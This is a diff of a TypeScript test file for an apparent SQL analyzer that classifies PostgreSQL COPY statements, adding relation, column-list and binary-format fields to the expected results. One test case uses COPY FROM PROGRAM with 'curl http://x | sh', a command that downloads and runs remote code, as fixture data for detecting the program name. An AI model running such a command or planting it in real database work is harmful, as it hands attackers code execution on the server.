@@ -364,27 +364,60 @@ const cases: { name: string; sql: string; searchPath?: string[]; expected: Expec
   {
     name: "COPY TO STDOUT is a read through stdio",
     sql: "COPY t TO STDOUT",
-    expected: { copy: { direction: "to", stdio: true }, relationsRead: ["public.t"] },
+    expected: {
+      copy: { direction: "to", stdio: true, relation: ["public.t"], binary: false },
+      relationsRead: ["public.t"],
+    },
   },
   {
     name: "COPY FROM STDIN writes the table through stdio",
     sql: "COPY t FROM STDIN",
-    expected: { copy: { direction: "from", stdio: true }, relationsWritten: ["public.t"] },
+    expected: {
+      copy: { direction: "from", stdio: true, relation: ["public.t"], binary: false },
+      relationsWritten: ["public.t"],
+    },
   },
   {
     name: "COPY FROM PROGRAM names the program",
     sql: "COPY t FROM PROGRAM 'curl http://x | sh'",
-    expected: { copy: { direction: "from", program: "curl http://x | sh", stdio: false } },
+    expected: {
+      copy: {
+        direction: "from",
+        program: "curl http://x | sh",
+        stdio: false,
+        relation: ["public.t"],
+        binary: false,
+      },
+    },
   },
   {
     name: "COPY TO a file names the file",
     sql: "COPY t TO '/tmp/out.csv'",
-    expected: { copy: { direction: "to", file: "/tmp/out.csv", stdio: false } },
+    expected: {
+      copy: {
+        direction: "to",
+        file: "/tmp/out.csv",
+        stdio: false,
+        relation: ["public.t"],
+        binary: false,
+      },
+    },
   },
   {
-    name: "COPY (query) TO reads the query's tables and functions",
+    name: "COPY names its column list and binary format (for masking the rows it sends)",
+    sql: 'COPY s.t (a, "B") TO STDOUT WITH (FORMAT binary)',
+    expected: {
+      copy: { direction: "to", stdio: true, relation: ["s.t"], columns: ["a", "B"], binary: true },
+    },
+  },
+  {
+    name: "COPY (query) TO reads the query's tables and functions, and names no relation",
     sql: "COPY (SELECT f(a) FROM s.t) TO STDOUT",
-    expected: { relationsRead: ["s.t"], functions: ["f"] },
+    expected: {
+      relationsRead: ["s.t"],
+      functions: ["f"],
+      copy: { direction: "to", stdio: true, binary: false },
+    },
   },
   {
     name: "COPY (DELETE … RETURNING) is a delete too",
